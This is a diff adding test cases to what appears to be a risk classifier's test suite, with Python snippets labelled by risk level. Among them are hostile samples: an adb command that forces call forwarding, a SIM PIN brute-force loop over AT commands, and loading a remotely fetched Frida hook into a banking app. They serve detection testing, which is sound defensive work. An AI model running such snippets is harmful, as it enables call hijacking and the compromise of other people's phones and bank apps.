@@ -11324,6 +11324,48 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'conf.write("allow_remote_control yes\\nlisten_on unix:/tmp/mykitty\\n")\n',
             S,
         ),
+        # holdout356-359: configuration management, facilities, phones, food co-ops
+        (
+            'import subprocess\n'
+            'subprocess.run(["adb", "shell", "service", "call", "phone", "2", "s16", "com.and'
+            'roid.shell", "s16", "**21*+15550100#"])\n',
+            H,
+        ),
+        (
+            'import serial\n'
+            'm = serial.Serial("/dev/ttyUSB2", 115200)\n'
+            'for pin in range(10000):\n'
+            '    m.write(f"AT+CPIN={pin:04d}\\r".encode())\n',
+            H,
+        ),
+        (
+            'import serial\n'
+            'm = serial.Serial("/dev/ttyUSB2", 115200)\n'
+            'm.write(b"AT+CPIN?\\r")\n'
+            'print(m.read(64))\n',
+            S,
+        ),
+        (
+            'import frida, requests\n'
+            'src = requests.get("https://gist.example.com/raw/hook.js").text\n'
+            's = frida.get_usb_device().attach("com.bank.app")\n'
+            's.create_script(src).load()\n',
+            H,
+        ),
+        (
+            'import frida\n'
+            's = frida.get_usb_device().attach("com.example.debugapp")\n'
+            's.create_script(open("tools/trace.js").read()).load()\n',
+            S,
+        ),
+        (
+            'import plistlib\n'
+            'from pathlib import Path\n'
+            'for b in (Path.home() / "Library/Application Support/MobileSync/Backup").glob("*'
+            '"):\n'
+            '    print(plistlib.load(open(b / "Info.plist", "rb")).get("Device Name"))\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
